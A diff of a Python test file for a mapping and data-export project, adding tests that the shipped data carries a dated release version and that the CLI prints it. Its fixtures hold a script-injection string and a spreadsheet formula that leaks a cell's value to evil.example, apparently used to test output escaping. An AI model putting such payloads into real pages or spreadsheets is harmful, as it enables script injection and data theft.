@@ -19,6 +19,7 @@ from geo.load import load_atlas, read_deployments
 from geo.mapdata import assign_colors
 from geo.snapshot_html import embed_code, snapshot_html
 from geo.validate import DATA_DIR, CountryIndex
+from geo.versions import is_dated_version, release_missing
 
 HOSTILE = "</script><script>alert(1)</script>${x}`"
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
@@ -122,9 +123,15 @@ def test_datapackage_describes_every_field_and_the_shipped_one_is_current():
 
 def test_data_version_changes_with_the_data(data_dir):
     before = data_version(data_dir)
-    assert before == data_version(data_dir) and len(before) == 12
-    (data_dir / "vendors.csv").write_text((data_dir / "vendors.csv").read_text() + "\n")
+    assert before == data_version(data_dir) and before.startswith("unreleased+")
+    rows = (data_dir / "vendors.csv").read_text().replace("Makes cameras.", "Makes cameras and software.")
+    (data_dir / "vendors.csv").write_text(rows)
     assert data_version(data_dir) != before
+
+
+def test_the_shipped_data_is_a_dated_release_and_the_datapackage_carries_it():
+    assert is_dated_version(data_version(DATA_DIR)), release_missing(DATA_DIR)
+    assert json.loads((DATA_DIR / "datapackage.json").read_text())["version"] == data_version(DATA_DIR)
 
 
 def test_citation_names_project_version_publisher_view_link_licence_and_date():
@@ -382,3 +389,12 @@ def test_cli_writes_the_xlsx_with_the_selected_rows(tmp_path, data_dir, capsys):
     assert [row[0] for row in sheet_rows(book["Deployments"])[1:]] == list(selection["id"])
     about = dict(sheet_rows(book["Citation"])[1:])
     assert about["Citation"] == capsys.readouterr().out.strip() and "vendor=acme" in about["Citation"]
+
+
+def test_cli_link_and_citation_carry_the_dated_release(tmp_path, data_dir, capsys):
+    from geo.versions import release
+
+    assert release(data_dir, "2026.12.01") == "2026.12.01"
+    assert snapshot.main(["--data-dir", str(data_dir), "--vendor", "acme", "--csv", str(tmp_path / "s.csv")]) == 0
+    printed = capsys.readouterr().out
+    assert "(data version 2026.12.01)" in printed and "v=2026.12.01" in printed
